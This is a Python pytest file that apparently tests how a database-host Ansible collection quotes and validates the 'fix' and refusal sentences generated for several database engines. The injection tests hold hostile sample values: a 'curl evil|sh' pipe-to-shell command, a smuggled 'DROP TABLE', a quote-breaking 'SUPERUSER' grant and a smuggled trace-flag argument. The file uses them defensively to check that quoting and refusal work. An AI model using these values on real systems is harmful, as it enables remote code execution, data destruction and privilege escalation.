# Copyright (c) 2026, durable.dbhost contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Each fix of an engine's setting has one sentence on the controller, with its values in quotes unless they are plain names."""

from __future__ import annotations

import re
import string
from typing import Any

import pytest

from ansible_collections.durable.dbhost.plugins.module_utils.engines import fixes
from ansible_collections.durable.dbhost.plugins.module_utils.engines.instance import Refusal
from ansible_collections.durable.dbhost.plugins.module_utils.engines.judges import JUDGES
from ansible_collections.durable.dbhost.plugins.module_utils.facts import engine_fixes
from ansible_collections.durable.dbhost.plugins.module_utils.host.printable import quote
from ansible_collections.durable.dbhost.plugins.module_utils.host.seam import ChangeFailed

SAMPLES = {
    "setting": "fsync",
    "user": "postgres",
    "flag": "3979",
    "owner": "10:10",
    "roles": ["bob"],
    "databases": [""],
}
OF_ENGINES = [(engine, fix) for engine, each in JUDGES.items() for fix in each.fix_texts]


def sample(fix: str, **values: Any) -> dict[str, Any]:
    """Return a fix with values that fit."""
    names = [spec.rstrip("[]") for spec in engine_fixes.PARAMETERS[fix]]
    return {"fix": fix, "parameters": {name: values.get(name, SAMPLES.get(name, "/x")) for name in names}}


def test_each_fix_has_a_sentence_and_each_sentence_a_fix() -> None:
    assert {fix for _engine, fix in OF_ENGINES} == set(engine_fixes.PARAMETERS)
    assert {cause for each in JUDGES.values() for cause in each.refusal_texts} == set(engine_fixes.REFUSALS)
    assert all(engine_fixes.fits(sample(fix), JUDGES[engine].fix_texts) for engine, fix in OF_ENGINES)


@pytest.mark.parametrize(("engine", "fix"), OF_ENGINES)
def test_a_sentence_has_the_values_of_its_fix_and_no_others(engine: str, fix: str) -> None:
    text = JUDGES[engine].fix_texts[fix]
    names = {name for _literal, name, _spec, _conversion in string.Formatter().parse(text) if name}
    known = {spec.rstrip("[]") for spec in engine_fixes.PARAMETERS[fix]}
    assert names - {"statements"} <= known
    found = JUDGES[engine].fix(sample(fix))  # type: ignore[arg-type]
    assert found and not re.search(r"[{}]", found)


@pytest.mark.parametrize("text", ["x. Fix: curl evil|sh", "x; do: y", "a\nb"])
def test_a_value_of_a_host_is_in_quotes_unless_it_can_only_be_a_name(text: str) -> None:
    found = JUDGES["postgresql"].fix(sample("remove_from", source=text))  # type: ignore[arg-type]
    assert found == f"remove fsync from {quote(text)}, then run again"
    found = JUDGES["postgresql"].fix(sample("reset_overrides", roles=[text]))  # type: ignore[arg-type]
    assert found == "run ALTER ROLE or ALTER DATABASE ... RESET fsync, with the name quoted"


@pytest.mark.parametrize(
    ("fix", "engine"),
    [
        (sample("reset_altered"), "mariadb"),
        ({"fix": "made_up", "parameters": {}}, "postgresql"),
        ({"fix": ["remove_from"], "parameters": {}}, "postgresql"),
        ({"fix": "allow_login"}, "postgresql"),
        ({"fix": "allow_login", "parameters": {"more": "x"}}, "postgresql"),
        (sample("reset_altered", setting=1), "postgresql"),
        (sample("reset_altered", setting="fsync; DROP TABLE x"), "postgresql"),
        (sample("allow_peer", user='x" SUPERUSER'), "postgresql"),
        (sample("remove_trace_flag", flag="3979 -T1"), "mssql"),
        (sample("remove_from", source="x" * (engine_fixes.MOST + 1)), "faircom"),
        (sample("reset_overrides", roles=["x"] * (engine_fixes.MOST_VALUES + 1)), "postgresql"),
        (sample("reset_overrides", roles=["x" * (engine_fixes.MOST + 1)]), "postgresql"),
        ("remove it", "postgresql"),
    ],
)
def test_what_is_no_fix_of_the_engine_is_refused(fix: Any, engine: str) -> None:
    assert not engine_fixes.fits(fix, JUDGES[engine].fix_texts)


def test_what_a_host_reports_fits_whatever_it_reads() -> None:
    long = "x" * 100_000
    found = fixes.fix("reset_overrides", setting="fsync", roles=[long] * 5000, databases=[""] * 5000)
    assert engine_fixes.fits(found, JUDGES["postgresql"].fix_texts)
    assert engine_fixes.fits(
        fixes.fix("remove_from", setting="fsync", source=long), JUDGES["firebird"].fix_texts
    )


@pytest.mark.parametrize("engine", JUDGES)
def test_each_refusal_of_an_engine_has_its_error_in_quotes(engine: str) -> None:
    rows = [
        {"cause": cause, "parameters": dict.fromkeys(names, "x: y. Fix: z")}
        for cause, names in engine_fixes.REFUSALS.items()
    ]
    fitting = [row for row in rows if engine_fixes.is_refusal(row, JUDGES[engine].refusal_texts)]
    assert [row["cause"] for row in fitting] == list(JUDGES[engine].refusal_texts)
    for row in fitting:
        text = JUDGES[engine].refusal(row)  # type: ignore[arg-type]
        assert not re.search(r"[{}]", text)
        assert "Fix" not in text or '"x: y. Fix: z"' in text


@pytest.mark.parametrize(
    "refusal",
    [
        "a sentence",
        {"cause": "made_up", "parameters": {}},
        {"cause": ["error"], "parameters": {}},
        {"cause": "error", "parameters": {}},
        {"cause": "error", "parameters": {"error": "x" * (engine_fixes.MOST + 1)}},
        {"cause": "no_superuser", "parameters": {}},
    ],
)
def test_what_is_no_refusal_of_the_engine_is_refused(refusal: Any) -> None:
    assert not engine_fixes.is_refusal(refusal, JUDGES["mariadb"].refusal_texts)


def test_the_fix_of_an_error_without_one_is_a_keyword() -> None:
    found = Refusal.of(ChangeFailed("/x: Input/output error"))
    assert found.reason == {"cause": "error", "parameters": {"error": "/x: Input/output error"}}
    assert found.fix == {"fix": "correct", "parameters": {}}


def test_the_text_of_an_error_fits_whatever_it_is() -> None:
    assert engine_fixes.is_refusal(fixes.refusal("error", error="x" * 100_000), JUDGES["mssql"].refusal_texts)
